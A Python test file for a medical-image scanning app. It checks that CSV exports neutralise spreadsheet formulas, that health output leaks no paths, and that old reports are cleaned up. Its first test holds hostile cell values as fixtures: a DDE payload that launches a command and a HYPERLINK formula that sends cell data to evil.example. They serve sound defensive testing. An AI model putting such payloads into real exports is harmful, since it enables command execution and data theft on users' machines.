"""What the app hands out and keeps: CSV cells that cannot run, no paths in health, no disk growth."""

import csv
import io
import os
import time

from medpic.app import MedPicService
from medpic.report import SCAN_COLUMNS, ReportRow, write_csv
from medpic.settings import REPO_ROOT, Settings


def test_formula_cells_are_neutralised_in_the_csv():
    attack = ReportRow(source="https://evil.example/", image="=cmd|' /C calc'!A0", status="ok",
                       alt='=HYPERLINK("http://evil.example/?"&A1)', reason="+1", found_by="@SUM(A1)",
                       width=12, p_medical=0.5)
    buf = io.StringIO()
    write_csv([attack], buf, columns=SCAN_COLUMNS)
    row = dict(zip(*csv.reader(io.StringIO(buf.getvalue()))))
    assert row["alt"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert row["image"].startswith("'=") and row["reason"] == "'+1" and row["found_by"] == "'@SUM(A1)"
    assert row["width"] == "12" and row["p_medical"] == "0.5000" and row["source"] == "https://evil.example/"


def test_health_shows_no_paths(tmp_path):
    service = MedPicService(Settings())
    try:
        text = repr(service.health())
    finally:
        service.close()
    assert str(REPO_ROOT) not in text and "/usr/" not in text and "/tmp" not in text
    assert "folder" not in text and "executable" not in text and "MEDPIC_" not in text


def test_old_reports_are_deleted_and_the_rest_at_close():
    service = MedPicService(Settings(output_max_age_s=60))
    try:
        old = service._out("old", ".csv")
        old.write_text("x")
        past = time.time() - 3600
        os.utime(old.parent, (past, past))
        fresh = service._out("fresh", ".csv")
        fresh.write_text("y")
        assert not old.exists() and fresh.exists()
    finally:
        service.close()
    assert not fresh.exists()
